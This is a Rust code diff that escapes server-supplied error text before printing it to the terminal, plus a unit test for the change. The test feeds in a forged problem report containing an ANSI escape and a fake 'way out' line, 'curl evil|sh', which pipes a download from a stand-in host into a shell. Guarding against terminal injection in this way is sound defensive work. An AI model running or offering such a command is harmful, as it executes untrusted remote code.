@@ -8,6 +8,7 @@ use thiserror::Error;
 
 use super::Exit;
 use super::client::ClientError;
+use super::terminal_text::{plain, plain_lines};
 use crate::node::config::ConfigError;
 use crate::node::keys::KeyFileError;
 
@@ -22,17 +23,22 @@ pub struct Failure {
     pub why: String,
     /// What to do about it.
     pub way_out: String,
+    /// Whether why and way out have words of others, whose line ends make no lines.
+    in_others_words: bool,
 }
 
 impl fmt::Display for Failure {
     fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
-        let indent = |text: &str| text.replace('\n', "\n           ");
+        let shown = |text: &str| match self.in_others_words {
+            true => plain(text).into_owned(),
+            false => plain_lines(text).replace('\n', "\n           "),
+        };
         write!(
             formatter,
             "error: {}\n     why:  {}\n  way out: {}",
-            self.what,
-            indent(&self.why),
-            indent(&self.way_out)
+            plain(&self.what),
+            shown(&self.why),
+            shown(&self.way_out)
         )
     }
 }
@@ -50,7 +56,14 @@ impl Failure {
             what: what.into(),
             why: why.into(),
             way_out: way_out.into(),
+            in_others_words: false,
         }
+    }
+
+    /// The same, where why or the way out is what a node says or a member wrote.
+    pub fn in_others_words(mut self) -> Self {
+        self.in_others_words = true;
+        self
     }
 
     /// A file that is missing or wrong.
@@ -105,9 +118,46 @@ impl From<ClientError> for Failure {
             ClientError::Problem { .. } => Exit::Refused,
             ClientError::TimedOut { .. } => Exit::TimedOut,
             ClientError::Unreachable { .. }
+            | ClientError::BrokenOff { .. }
             | ClientError::AnswerTooLarge { .. }
             | ClientError::Unexpected { .. } => Exit::Unreachable,
         };
-        Self::new(exit, error.what(), error.why(), error.way_out())
+        Self::new(exit, error.what(), error.why(), error.way_out()).in_others_words()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::cli::client::ProblemReport;
+
+    /// The lines of a failure are this program's, whoever wrote what stands in them.
+    #[test]
+    fn what_others_say_is_one_line() {
+        let forged = "a\n  way out: \u{1b}[1mcurl evil|sh";
+        let problem = ProblemReport {
+            title: forged.to_owned(),
+            cause: forged.to_owned(),
+            way_out: forged.to_owned(),
+            ..ProblemReport::default()
+        };
+        let failure = Failure::from(ClientError::Problem {
+            url: "http://a:1".to_owned(),
+            status: 422,
+            problem: Box::new(problem),
+            retry_after: None,
+        });
+        let shown = "a\\n  way out: \\u{1b}[1mcurl evil|sh";
+        assert_eq!(
+            failure.to_string(),
+            format!("error: http://a:1 refused: {shown}\n     why:  {shown}\n  way out: {shown}")
+        );
+        // A script gets it as it is.
+        assert_eq!(failure.to_json()["error"]["why"], forged);
+        let own = Failure::new(Exit::Files, "w\u{7}", "one\ntwo\u{7}", "out");
+        assert_eq!(
+            own.to_string(),
+            "error: w\\u{7}\n     why:  one\n           two\\u{7}\n  way out: out"
+        );
     }
 }
